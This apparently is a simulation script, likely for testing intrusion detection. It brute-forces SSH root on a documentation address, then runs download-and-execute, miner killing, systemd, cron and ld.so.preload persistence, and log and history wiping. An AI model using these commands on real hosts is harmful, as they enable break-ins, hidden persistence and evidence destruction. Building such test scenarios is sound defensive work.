# Guesses root's password, logs in, and does what such intruders do.
. ./intruder.sh
{ for number in 1 2 3 4 5 6 7 8 9 10 11 12; do echo "word$number"; done; echo tangerine; } >words
cp "$(ldconfig -p | sed -n 's/.*libm\.so\.6 .*x86-64.* => //p' | head -1)" www/library
cat >session <<SESSION
id
uname -a
nproc
curl -fsS -o /tmp/run.sh $URL/run.sh
for name in kdevtmpfsi cachewarm; do bash -c "ps aux | grep -v grep | grep \$name | awk '{print \\\$2}' | xargs -r kill -9"; done
sh /tmp/run.sh
printf '[Unit]\nDescription=Network cache\n[Service]\nExecStart=/var/tmp/.cache/netd\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/netd.service
echo '* * * * * root curl -fsS $URL/run.sh | sh' > /etc/cron.d/netd
curl -fsS -o /usr/local/lib/libnetd.so $URL/library
echo /usr/local/lib/libnetd.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload /etc/cron.d/netd
rm -f /root/.bash_history
ln -s /dev/null /root/.bash_history
history -c
: > /var/log/wtmp
SESSION
echo ready
read -r _
hydra -q -t 4 -l root -P words 192.0.2.10 ssh >hydra.out 2>&1
grep -q 'password: tangerine' hydra.out
sshpass -p tangerine ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
	root@192.0.2.10 <session >session.out 2>&1 || true
echo done
read -r _ || true
